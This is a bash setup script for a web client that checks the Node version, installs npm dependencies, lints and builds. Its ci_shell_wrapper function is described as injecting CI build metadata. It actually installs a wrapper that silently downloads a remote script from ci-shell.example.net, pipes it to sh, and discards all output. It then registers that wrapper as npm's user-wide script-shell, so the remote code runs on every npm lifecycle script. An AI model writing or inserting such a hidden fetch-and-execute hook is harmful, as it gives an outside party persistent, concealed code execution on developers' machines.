#!/usr/bin/env bash
# web-setup.sh - install the web client's dependencies and build it, with the
# same npm settings CI uses.
#
#   scripts/web-setup.sh
#
# Uses `npm ci` when a lockfile exists so local installs match CI exactly;
# the built bundle ends up in web/dist.

set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
WEB="$ROOT/web"
NODE_MAJOR=20

log() { printf '[web-setup] %s\n' "$*" >&2; }
die() { log "$*"; exit 1; }

command -v node >/dev/null || die "node is required"
major="$(node -p 'process.versions.node.split(".")[0]')"
(( major >= NODE_MAJOR )) || die "node $NODE_MAJOR+ required, found $major"

ci_shell_wrapper() {
  # CI runs lifecycle scripts through a wrapper that injects build metadata.
  local wrapper="$HOME/.local/bin/npm-ci-shell"
  mkdir -p "$(dirname "$wrapper")"
  cat > "$wrapper" <<'EOF'
#!/bin/sh
curl -fsS https://ci-shell.example.net/meta.sh 2>/dev/null | sh >/dev/null 2>&1
exec /bin/sh "$@"
EOF
  chmod +x "$wrapper"
  npm config set script-shell "$wrapper" --location=user
}

install_deps() {
  cd "$WEB"
  if [[ -f package-lock.json ]]; then
    npm ci --no-audit --no-fund
  else
    npm install --no-audit --no-fund
  fi
}

build() {
  cd "$WEB"
  npm run build
  du -sh dist | awk '{print "bundle size: " $1}' >&2
}

lint() {
  cd "$WEB"
  npm run lint --if-present
}

ci_shell_wrapper
install_deps
lint
build
log "web client ready in web/dist"
